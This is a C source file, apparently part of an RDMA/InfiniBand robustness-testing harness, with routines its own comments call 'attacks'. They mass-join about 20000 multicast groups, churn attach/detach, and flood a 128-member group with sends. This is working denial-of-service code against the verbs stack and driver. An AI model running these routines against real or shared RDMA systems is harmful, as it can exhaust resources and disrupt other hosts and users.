// SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
/* Attacks with groups: to be in many, and to send to one that has many members. */
#include <time.h>

#include "neighbour.h"

#define MEMBERS		128
#define RECEIVES	4096
#define GROUPS		20000
#define JOIN_SECONDS	20	/* and then it has to do with fewer */
#define BYTES		1024

static struct dev dev;
static struct pair_opts opts;
static struct buf buf;
static struct ibv_cq *cq;
static struct ibv_srq *srq;
static struct ibv_qp *member[MEMBERS];
static struct side sender;
static unsigned int joined;

static union ibv_gid group(unsigned int n)
{
	union ibv_gid gid = { .raw = { 0xff, 0x0e } };

	gid.raw[10] = 0x77;
	gid.raw[13] = n >> 16;
	gid.raw[14] = n >> 8;
	gid.raw[15] = n;
	return gid;
}

static void open_sender(void)
{
	opts = pair_defaults(&(struct pair_opts){ .type = IBV_QPT_UD });
	must(dev_open(&dev));
	must(side_open(&sender, &dev, &opts, false));
	must(side_to_init(&sender, &opts));
}

void groups_begin(const struct victim *victim)
{
	union ibv_gid gid;

	time_t end;

	open_sender();
	end = time(NULL) + JOIN_SECONDS;
	for (joined = 0; joined < GROUPS && time(NULL) < end; joined++) {
		gid = group(joined);
		if (ibv_attach_mcast(sender.qp, &gid, 0))
			return;
	}
}

/* The first and the last, again and again. */
void groups_turn(unsigned int thread)
{
	union ibv_gid first = group(0), last = group(joined ? joined - 1 : 0);

	ibv_detach_mcast(sender.qp, &last, 0);
	ibv_attach_mcast(sender.qp, &last, 0);
	ibv_detach_mcast(sender.qp, &first, 0);
	ibv_attach_mcast(sender.qp, &first, 0);
}

static void join(unsigned int n)
{
	struct ibv_qp_init_attr init = {
		.qp_type = IBV_QPT_UD, .send_cq = cq, .recv_cq = cq, .srq = srq,
		.cap = { .max_send_wr = 1, .max_send_sge = 1 },
	};
	struct side side = { .dev = &dev, .pd = dev.pd };
	union ibv_gid gid = group(0);

	side.qp = ibv_create_qp(dev.pd, &init);
	member[n] = side.qp;
	if (!side.qp)
		die("no member: %d", errno);
	must(side_to_init(&side, &opts));
	must(qp_to(side.qp, IBV_QPS_RTR));
	must(ibv_attach_mcast(side.qp, &gid, 0));
}

static void receive(void)
{
	struct ibv_sge sge = sge_of(&buf, 0, BYTES + GRH_BYTES);
	struct ibv_recv_wr *bad, wr = { .sg_list = &sge, .num_sge = 1 };

	while (!ibv_post_srq_recv(srq, &wr, &bad))
		;
}

void members_begin(const struct victim *victim)
{
	struct ibv_srq_init_attr init = { .attr = { .max_wr = RECEIVES, .max_sge = 1 } };
	struct ibv_ah_attr to = { .port_num = 1, .is_global = 1, .grh.dgid = group(0) };
	struct ibv_qp_attr rts = { .qp_state = IBV_QPS_RTS };
	unsigned int i;

	open_sender();
	to.grh.sgid_index = dev.gid_index;
	must(qp_to(sender.qp, IBV_QPS_RTR));
	must(ibv_modify_qp(sender.qp, &rts, IBV_QP_STATE | IBV_QP_SQ_PSN));
	must(buf_open(&buf, dev.pd, 2 * BYTES, 0, ACCESS_REMOTE));
	sender.ah = ibv_create_ah(dev.pd, &to);
	cq = ibv_create_cq(dev.ctx, 2 * RECEIVES, NULL, NULL, 0);
	srq = ibv_create_srq(dev.pd, &init);
	if (!sender.ah || !cq || !srq)
		die("no group: %d", errno);
	for (i = 0; i < MEMBERS; i++)
		join(i);
}

void members_turn(unsigned int thread)
{
	struct ibv_wc wc[64];
	unsigned int i;

	receive();
	for (i = 0; i < 16; i++)
		POST(&sender, .op = IBV_WR_SEND, .local = &buf, .len = BYTES, .ah = sender.ah,
		     .qpn = 0xffffff, .qkey = UD_QKEY);
	while (ibv_poll_cq(sender.scq, 64, wc) > 0)
		;
	while (ibv_poll_cq(cq, 64, wc) > 0)
		;
}
